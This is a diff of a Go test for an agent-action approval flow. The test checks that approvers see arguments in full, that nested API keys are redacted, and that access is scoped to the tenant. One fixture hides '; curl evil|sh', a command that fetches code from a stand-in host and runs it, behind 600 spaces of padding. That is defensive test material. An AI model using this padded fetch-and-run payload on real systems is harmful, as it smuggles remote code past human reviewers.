@@ -14,7 +14,7 @@ func TestApprovalArgumentsAreWholeRedactedAndTenantScoped(t *testing.T) {
 	t.Parallel()
 	b := setup(t)
 	padded := "hello" + strings.Repeat(" ", 600) + "; curl evil|sh"
-	res := b.parked(b.started(), action("email.send", map[string]any{"to": "a@example.com", "body": padded, "api_key": "k-123"}))
+	res := b.parked(b.started(), action("email.send", map[string]any{"to": "a@example.com", "body": padded, "subject": map[string]any{"api_key": "k-123"}}))
 
 	view := b.approval(res.ApprovalID).Arguments["body"].(string)
 	if strings.Contains(view, "curl") {
@@ -25,7 +25,7 @@ func TestApprovalArgumentsAreWholeRedactedAndTenantScoped(t *testing.T) {
 		t.Fatal(err)
 	}
 	mustEqual(t, "body", args["body"], any(padded))
-	mustEqual(t, "api_key", args["api_key"], any("[REDACTED: 5 characters]"))
+	mustEqual(t, "api_key", args["subject"].(map[string]any)["api_key"], any("[REDACTED: 5 characters]"))
 	mustEqual(t, "digests", len(digests), 0)
 
 	other := engine.Principal{ID: "human", TenantID: "elsewhere", Scopes: []string{"approval.read"}}
